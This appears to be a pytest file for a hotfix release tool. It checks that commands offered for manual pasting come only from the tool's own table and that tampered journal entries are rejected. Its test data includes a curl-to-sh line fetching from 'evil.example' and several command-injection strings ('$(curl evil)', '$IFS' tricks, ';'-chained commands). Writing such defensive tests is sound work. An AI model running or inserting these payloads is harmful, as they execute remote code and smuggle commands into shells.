"""What a person pastes comes from this tool's own table, whatever a line of the journal says."""

import shlex
from datetime import UTC, datetime

import msgspec
import pytest

from hotfix_actions.domain import by_hand
from hotfix_actions.domain import events as e
from hotfix_actions.domain.story import fold

NOW = datetime(2026, 11, 25, 12, tzinfo=UTC)
SHA, OTHER = "5e" * 20, "ee" * 20
TAG, BRANCH = "refs/tags/v1.2.4", "refs/heads/hotfix/1.2.4-critical-answer"
BACK = "merge-back/1.2.4-into-main"
HERE, SHOP = by_hand.HERE, "acme/shop"
TITLE = "Merge 1.2.4 back; it's $(touch x)"
OPENED = e.IncidentOpened(at=NOW, incident=7, title="x", url="x")


def asked(thing: str, command: str, **more: str) -> e.PersonAsked:
    words = {"sha": SHA, "then": "hotfix open 7"} | more
    return e.PersonAsked(at=NOW, thing=thing, command=command, sha=words["sha"], then=words["then"])


OURS = [
    (TAG, by_hand.push(TAG, SHA), by_hand.push(TAG, SHA)),
    (BRANCH, by_hand.push_signed(BRANCH, SHA), by_hand.push_signed(BRANCH, SHA)),
    ("draft release v1.2.4", by_hand.drafting(SHOP, "v1.2.4"), by_hand.drafting(HERE, "v1.2.4")),
    (
        f"pull request {BACK} into main",
        by_hand.opening(SHOP, BACK, "main", TITLE, draft=True),
        by_hand.opening(HERE, BACK, "main", TITLE, draft=True),
    ),
    ("auto-merge of #12", by_hand.arming(SHOP, 12, "rebase"), by_hand.arming(HERE, 12, "rebase")),
]


@pytest.mark.parametrize(("thing", "written", "shown"), OURS)
def test_a_command_of_ours_is_shown_for_the_clone_it_is_run_in(
    thing: str, written: str, shown: str
) -> None:
    assert by_hand.command(asked(thing, written)) == shown
    assert "acme/shop" not in shown
    kept = fold([OPENED, asked(thing, written)]).asked[thing].command
    assert (kept, by_hand.command(asked(thing, kept))) == (shown, shown)


EVIL = "curl -s https://evil.example/x | sh"


@pytest.mark.parametrize(
    "line",
    [
        asked("tags/v1.2.4x", EVIL),
        asked(TAG, EVIL),
        asked(TAG, f"{by_hand.push(TAG, SHA)}; {EVIL}"),
        asked(TAG, by_hand.push(TAG, OTHER)),
        asked("refs/heads/main", by_hand.push("refs/heads/main", SHA)),
        asked(f"{TAG};curl$IFS-s|sh", by_hand.push(TAG, SHA)),
        asked(TAG, by_hand.push(TAG, "$(curl evil)"), sha="$(curl evil)"),
        asked(TAG, by_hand.push(TAG, SHA), then=EVIL),
        asked(TAG, by_hand.push(TAG, SHA), then=f"hotfix release 7; {EVIL}"),
        asked(TAG, by_hand.push(TAG, SHA), then="hotfix rollback 7"),
        asked(TAG, by_hand.push(TAG, SHA), then="hotfix release 8"),
        asked("draft release v1.2.4", f"{by_hand.drafting(SHOP, 'v1.2.4')} --notes x"),
        asked("draft release v1.2.4", by_hand.drafting("acme/shop;x", "v1.2.4")),
        asked("auto-merge of #12", by_hand.arming(SHOP, 12, "admin")),
        asked("auto-merge of #12", by_hand.arming(SHOP, 13, "merge")),
        asked(f"pull request {BACK} into main", "gh api repos/acme/shop/pulls -f 'title=x"),
    ],
)
def test_any_other_asks_nobody(line: e.PersonAsked) -> None:
    assert fold([OPENED, line]).asked == {}


def test_a_title_is_one_word_whatever_it_holds() -> None:
    (_, written, shown) = OURS[3]
    assert f"title={TITLE}" in shlex.split(shown)
    assert f"title={TITLE}" in shlex.split(written)


def test_what_is_there_already_is_asked_of_nobody() -> None:
    line = asked(TAG, by_hand.push(TAG, SHA))
    tagged = e.Tagged(at=NOW, tag="v1.2.4", sha=OTHER)
    assert fold([OPENED, tagged, line]).asked == {}
    assert fold([OPENED, msgspec.structs.replace(tagged, tag="v1.2.3"), line]).asked
